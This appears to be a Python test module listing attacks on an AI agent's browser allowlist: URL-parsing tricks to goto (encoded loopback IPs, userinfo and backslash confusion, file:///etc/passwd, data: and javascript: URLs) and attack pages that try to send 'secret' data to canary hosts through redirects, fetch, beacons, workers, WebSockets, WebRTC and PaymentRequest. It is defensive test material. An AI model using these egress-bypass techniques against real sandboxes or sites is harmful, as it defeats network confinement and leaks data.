"""The attacks on lma's browser allowlist: one per class of issue 17 (those that escaped the old
Playwright-route guard and a representative of each class that held).

Each attack is a URL the agent is lured to ``goto``, or a page on the allowed site that acts by
itself or when the agent clicks its "Go" button (a page whose attack is ``proof`` calls ``done()``
after its attempt, so a page that failed to run cannot pass as held). ``{{TOKENS}}`` are filled in by the harness
(tests/browser_attacks_kit.py): ``X`` is the HTTP canary this run attacks (``XA`` its host:port),
``XW`` the WebSocket canary, ``XT`` the raw TCP canary, ``U`` the UDP canary, ``N`` a host name
(any DNS lookup of it is logged), ``A`` the allowed origin (``AH`` its host:port), ``P`` the
proxy's own port. Modes: ``origin`` allows only the attack site; ``loopback`` is lma's default
list (127.0.0.1 and localhost on every port, [::1]), attacked through 127.0.0.2 and names.
"""

from __future__ import annotations

from dataclasses import dataclass

BOTH = ("origin", "loopback")
ORIGIN = ("origin",)


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    page: str = ""  # the attack page's body, or
    goto: str = ""  # the URL the agent is lured to open (it must be refused)
    click: bool = False  # the agent clicks "Go" (a user gesture)
    wait: float = 0.2  # seconds the page gets to act before the probe
    modes: tuple[str, ...] = BOTH
    headers: tuple[tuple[str, str], ...] = ()
    within: float = 0.0  # the whole attack must end this fast (plus the wait)
    proof: bool = False  # the page calls done() once it has made its attempt: proof that it ran


def js(code: str) -> str:
    return f"<p>attack page</p><script>{code}</script>"


def go(onclick: str) -> str:
    return f"<button onclick=\"{onclick}\">Go</button>"


_GOTO = [  # URL tricks handed to goto
    ("goto-canary", "{{X}}/goto", BOTH), ("goto-127.1", "http://127.1:{{H1P}}/", ORIGIN),
    ("goto-decimal", "http://2130706433:{{H1P}}/", ORIGIN), ("goto-hex", "http://0x7f000001:{{H1P}}/", ORIGIN),
    ("goto-mapped-ipv6", "http://[::ffff:127.0.0.1]:{{H1P}}/", ORIGIN), ("goto-ipv6", "{{H6}}/", ORIGIN),
    ("goto-userinfo", "http://{{AH}}@{{XA}}/", BOTH), ("goto-backslash", "http://{{XA}}\\@{{AH}}/", BOTH),
    ("goto-case", "HTTP://{{XA}}/", ORIGIN), ("goto-trailing-dot", "http://127.0.0.1.:{{H1P}}/", ORIGIN),
    ("goto-tab", "http://127.0.0.1:\t{{H1P}}/", ORIGIN), ("goto-newline", "http://{{XA}}\n/", BOTH),
    ("goto-100k", "{{X}}/" + "a" * 100_000, ORIGIN), ("goto-bad-port", "http://127.0.0.1:99999/", ORIGIN),
    ("goto-data", "data:text/html,<script>fetch('{{X}}/data')</script>", BOTH),
    ("goto-javascript", "javascript:fetch('{{X}}/js')", BOTH), ("goto-file", "file:///etc/passwd", ORIGIN),
    ("goto-view-source", "view-source:{{X}}/vs", ORIGIN), ("goto-chrome", "chrome://version", ORIGIN),
    ("goto-blob", "blob:{{X}}/uuid", ORIGIN), ("goto-name", "http://{{N}}/", BOTH),
    ("goto-protocol-relative", "//{{XA}}/pr", BOTH), ("goto-empty", "", ORIGIN), ("goto-blank", "   ", ORIGIN),
    ("goto-no-host", "http://", ORIGIN), ("goto-nul", "\x00", ORIGIN),
]

_PAGES = [
    # navigations started by the page
    Attack("link-click", "navigation", '<a href="{{X}}/link">Go</a>', click=True),
    Attack("link-new-tab", "navigation", '<a target="_blank" href="{{X}}/tab">Go</a>', click=True, modes=ORIGIN),
    Attack("window-open", "navigation", js("window.open('{{X}}/popup')")),
    Attack("location-href", "navigation", js("location.href = '{{X}}/href'")),
    Attack("location-replace", "navigation", js("location.replace('{{X}}/replace')"), modes=ORIGIN),
    Attack("location-on-click", "navigation", go("location.assign('{{X}}/assign')"), click=True, modes=ORIGIN),
    Attack("meta-refresh", "navigation", '<meta http-equiv="refresh" content="0;url={{X}}/meta"><p>wait</p>'),
    Attack("refresh-header", "navigation", "<p>wait</p>", headers=(("Refresh", "0;url={{X}}/refresh"),), modes=ORIGIN),
    Attack("form-post", "navigation", '<form id=f method=post action="{{X}}/post"><input name=secret value=s></form>'
                                      "<script>f.submit()</script>"),
    Attack("form-get-click", "navigation", '<form action="{{X}}/get"><button>Go</button></form>', click=True, modes=ORIGIN),
    Attack("base-href", "navigation", '<base href="{{X}}/"><a href="based">Go</a>', click=True, modes=ORIGIN),
    Attack("iframe", "frames", '<iframe src="{{X}}/frame"></iframe>'),
    Attack("iframe-srcdoc", "frames", "<iframe srcdoc=\"<script>fetch('{{X}}/srcdoc')</script>\"></iframe>"),
    Attack("iframe-sandboxed-websocket", "frames", "".join(
        f"<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket('{{{{XW}}}}/sbx{i}')</script>\"></iframe>"
        for i in range(6)), wait=0.6),
    Attack("iframe-data", "frames", "<iframe src=\"data:text/html,<script>fetch('{{X}}/dataframe')</script>\"></iframe>", modes=ORIGIN),
    # redirects (the allowed site answers 3xx to an outside target)
    *[Attack(f"redirect-{code}", "redirects", js(f"location.href = '/r/{code}/X'"), modes=BOTH if code in (302, 307) else ORIGIN)
      for code in (301, 302, 303, 307, 308)],
    Attack("redirect-chain", "redirects", js("location.href = '/chain/3/X'")),
    Attack("redirect-backslash-fetch", "redirects",  # the parser differential that was a read/write proxy
           js("fetch('/loc/backslash', {method: 'POST', body: 'secret'}).catch(() => 0)") + '<img src="/loc/backslash">'),
    Attack("redirect-backslash-navigation", "redirects", js("location.href = '/loc/backslash'")),
    Attack("redirect-307-post", "redirects", js("fetch('/r/307/X', {method: 'POST', body: 'secret'}).catch(() => 0)")),
    Attack("redirect-to-name", "redirects", js("fetch('/loc/name').catch(() => 0)")),
    Attack("redirect-unparsable", "redirects", js("fetch('/loc/unparsable').catch(() => 0); location.href = '/loc/unparsable'"),
           within=3),
    Attack("redirect-over-limit", "redirects", js("location.href = '/chain/25/A'"), within=5),
    Attack("redirect-over-limit-outside", "redirects", js("location.href = '/chain/25/X'"), within=5),
    # subresources, preloading
    Attack("subresources", "subresources", "".join([
        '<img src="{{X}}/img"><script src="{{X}}/script.js"></script><link rel=stylesheet href="{{X}}/style.css">',
        '<audio src="{{X}}/audio" autoplay></audio><video src="{{X}}/video" autoplay></video>',
        '<object data="{{X}}/object"></object><embed src="{{X}}/embed"><link rel=icon href="{{X}}/icon">',
        '<svg><image href="{{X}}/svg-image"/></svg><input type=image src="{{X}}/input-image">',
        '<picture><source srcset="{{X}}/srcset"><img></picture><img src="http://{{N}}/img-by-name">',
        "<style>@import url('{{X}}/import.css'); @font-face {font-family: f; src: url('{{X}}/font')}",
        " body {font-family: f; background: url('{{X}}/background')}</style>"])),
    Attack("preload-prefetch", "preloading", "".join(
        f'<link rel={rel} href="{{{{X}}}}/{rel}" as=script>' for rel in
        ("prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "prerender")) +
        '<link rel=dns-prefetch href="//{{N}}"><link rel=preconnect href="http://{{N}}">'),
    Attack("speculation-rules", "preloading", '<script type=speculationrules>{"prefetch": [{"source": "list", '
           '"urls": ["{{X}}/spec-prefetch"]}], "prerender": [{"source": "list", "urls": ["{{X}}/spec-prerender"]}]}</script>'
           '<a href="{{X}}/spec-link">hover</a>'),
    # requests made by scripts
    Attack("fetch", "requests", js("fetch('{{X}}/fetch').catch(() => 0); fetch('{{X}}/no-cors', {mode: 'no-cors'}).catch(() => 0);"
                                   "fetch('{{X}}/post', {method: 'POST', body: 'secret'}).catch(() => 0)")),
    Attack("xhr-beacon-eventsource", "requests", js(
        "var x = new XMLHttpRequest(); x.open('GET', '{{X}}/xhr'); x.send(); navigator.sendBeacon('{{X}}/beacon', 'secret');"
        "new EventSource('{{X}}/events'); fetch('http://{{N}}/fetch-by-name').catch(() => 0)")),
    Attack("pagehide-keepalive-beacon", "requests", js(
        "addEventListener('pagehide', () => { fetch('{{X}}/keepalive', {method: 'POST', body: 'secret', keepalive: true});"
        " navigator.sendBeacon('{{X}}/pagehide-beacon', 'secret') })")),
    # workers
    Attack("dedicated-worker", "workers", js("new Worker('/js/worker.js')"), wait=0.6),
    Attack("blob-worker", "workers", js("new Worker(URL.createObjectURL(new Blob([\"fetch('{{X}}/blob-worker')\"])))"), wait=0.6),
    Attack("shared-worker", "workers", js("new SharedWorker('/js/worker.js'); done()"), wait=0.8, proof=True),
    Attack("service-worker", "workers", js("navigator.serviceWorker.register('/js/sw.js').then(done, done)"),
           wait=0.6, proof=True),
    # WebSockets
    Attack("websocket", "websockets", js("new WebSocket('{{XW}}/ws'); new WebSocket('wss://{{XWA}}/wss'); done()"), proof=True),
    Attack("websocket-by-name", "websockets", js("new WebSocket('ws://{{N}}/ws')")),
    Attack("websocket-storm", "websockets", js("for (let i = 0; i < 20; i++) new WebSocket('{{XW}}/storm' + i)"), wait=0.6),
    Attack("websocket-mock-bypass", "websockets", js(  # the old in-page mock's holes: now plain WebSockets
        "var w = new WebSocket('{{A}}/ok'.replace('http', 'ws')); try { w._apiConnect() } catch (e) {}"
        "new WebSocket(w.url.replace(location.host, '{{XWA}}') + 'changed'); done()"), proof=True),
    # requests Chromium makes itself
    Attack("payment-request", "browser-side", go(
        "var r = new PaymentRequest([{supportedMethods: '{{X}}/pay/SECRET-IN-PATH'}], {total: {label: 'x', amount: "
        "{currency: 'USD', value: '1'}}}); r.canMakePayment().catch(() => 0); r.show().catch(() => 0); done()"), click=True,
        wait=0.8, proof=True),
    Attack("fedcm", "browser-side", js("navigator.credentials.get({identity: {providers: [{configURL: '{{X}}/fedcm.json',"
                                       " clientId: '1'}]}}).catch(() => 0); done()"), wait=0.6, proof=True),
    Attack("audio-worklet", "browser-side", js("new AudioContext().audioWorklet.addModule('{{X}}/worklet.js').catch(done)"),
           wait=0.5, proof=True),
    Attack("webtransport", "browser-side", js("new WebTransport('https://{{U}}/wt').ready.catch(() => 0);"
                                              "new WebTransport('https://{{XA}}/wt').ready.catch(() => 0); done()"),
           wait=0.8, proof=True),
    Attack("webrtc", "browser-side", js(
        "var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:{{U}}'}, {urls: 'stun:{{N}}:3478'},"
        " {urls: 'turn:{{XT}}?transport=tcp', username: 'u', credential: 'p'}, {urls: 'turn:{{U}}?transport=udp', username: 'u',"
        " credential: 'p'}]}); pc.createDataChannel('d'); pc.createOffer().then(o => pc.setLocalDescription(o)).then(done)"),
        wait=1.5, proof=True),
    Attack("download", "browser-side", '<a href="{{X}}/file.bin" download>Go</a>', click=True),
    Attack("proxy-itself", "proxy", js("fetch('http://127.0.0.1:{{P}}/').catch(() => 0); new WebSocket('ws://127.0.0.1:{{P}}/')"
                                       "; fetch('http://localhost:{{P}}/loop').catch(() => 0)"), modes=("loopback",)),
]

ATTACKS: list[Attack] = [Attack(name, "url tricks", goto=url, modes=modes) for name, url, modes in _GOTO] + _PAGES


def script_files() -> dict[str, str]:
    """Scripts the attack site serves at /js/<name>: a worker that tries every way out, a service worker."""
    tries = ("fetch('{{X}}/worker-fetch').catch(() => 0); fetch('http://{{N}}/worker-name').catch(() => 0);"
             "try { new WebSocket('{{XW}}/worker-ws') } catch (e) {} try { importScripts('{{X}}/import.js') } catch (e) {}")
    return {"worker.js": tries, "sw.js": tries}
